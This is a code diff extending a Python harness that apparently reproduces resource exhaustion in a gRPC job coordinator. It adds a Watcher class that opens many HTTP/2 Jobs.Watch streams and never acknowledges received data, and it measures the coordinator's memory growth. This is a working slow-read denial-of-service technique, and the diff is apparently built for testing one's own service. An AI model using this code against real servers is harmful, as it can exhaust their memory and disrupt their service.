@@ -37,6 +37,49 @@ def rss_mib(pid):
     return 0.0
 
 
+class Watcher:
+    """Jobs.Watch streams that never grant flow-control credit: once the
+    first 64 KiB arrived, the coordinator can send nothing more on them."""
+
+    def __init__(self, host, port, streams, job_id):
+        self.sock = socket.create_connection((host, port))
+        self.sock.setblocking(False)
+        self.conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
+        self.conn.initiate_connection()
+        self.closed = False
+        self.received = 0
+        request = job_id.encode()
+        message = b"\x0a" + bytes([len(request)]) + request  # WatchJobRequest.job_id
+        for _ in range(streams):
+            stream = self.conn.get_next_available_stream_id()
+            self.conn.send_headers(stream, [
+                (":method", "POST"), (":scheme", "http"), (":path", "/cohort.v1.Jobs/Watch"),
+                (":authority", f"{host}:{port}"), ("content-type", "application/grpc"),
+                ("te", "trailers")])
+            self.conn.send_data(stream, struct.pack(">BI", 0, len(message)) + message,
+                                end_stream=True)
+        Attacker.flush(self)
+
+    def read(self):
+        try:
+            data = self.sock.recv(1 << 20)
+        except BlockingIOError:
+            return
+        except OSError:
+            self.closed = True
+            return
+        if not data:
+            self.closed = True
+            return
+        for event in self.conn.receive_data(data):
+            if isinstance(event, h2.events.DataReceived):
+                self.received += len(event.data)  # never acknowledged: no window update
+        Attacker.flush(self)
+
+    def close(self):
+        Attacker.close(self)
+
+
 class Attacker:
     def __init__(self, host, port, streams, message_bytes, path):
         self.sock = socket.create_connection((host, port))
@@ -127,6 +170,35 @@ class Attacker:
             pass
 
 
+def watch(args, host, port):
+    before = rss_mib(args.pid)
+    watchers = [Watcher(host, port, args.streams, args.watch) for _ in range(args.connections)]
+    peak = before
+    samples = []
+    start = time.monotonic()
+    while time.monotonic() - start < args.hold:
+        socks = [w.sock for w in watchers if not w.closed]
+        readable, _, _ = select.select(socks, [], [], 0.1)
+        for w in watchers:
+            if w.sock in readable:
+                w.read()
+        rss = rss_mib(args.pid)
+        peak = max(peak, rss)
+        if not samples or time.monotonic() - samples[-1][0] >= args.hold / 4:
+            samples.append((time.monotonic(), rss))
+    held = rss_mib(args.pid)
+    for w in watchers:
+        w.close()
+    time.sleep(1.0)
+    after = rss_mib(args.pid)
+    trace = ", ".join(f"{rss:.0f}" for _, rss in samples)
+    print(f"{args.connections} connection(s) x {args.streams} Watch stream(s) of {args.watch} "
+          f"that never read for {args.hold:.0f} s ({sum(w.received for w in watchers)} bytes "
+          f"received): coordinator RSS {before:.0f} MiB before, {trace} MiB along the way, "
+          f"{peak:.0f} MiB peak, {held:.0f} MiB at the end, {after:.0f} MiB after closing")
+    return 0
+
+
 def main():
     parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
     parser.add_argument("--target", required=True, help="host:port of the coordinator")
@@ -137,8 +209,13 @@ def main():
                         help="announced message size (all but one byte is sent)")
     parser.add_argument("--path", default="/cohort.v1.Jobs/Submit")
     parser.add_argument("--hold", type=float, default=5.0)
+    parser.add_argument("--watch", default="",
+                        help="instead: open --streams Jobs.Watch streams of this job on each "
+                             "connection that never read past the first 64 KiB, for --hold s")
     args = parser.parse_args()
     host, port = args.target.rsplit(":", 1)
+    if args.watch:
+        return watch(args, host, int(port))
 
     before = rss_mib(args.pid)
     attackers = [Attacker(host, int(port), args.streams, args.bytes, args.path)
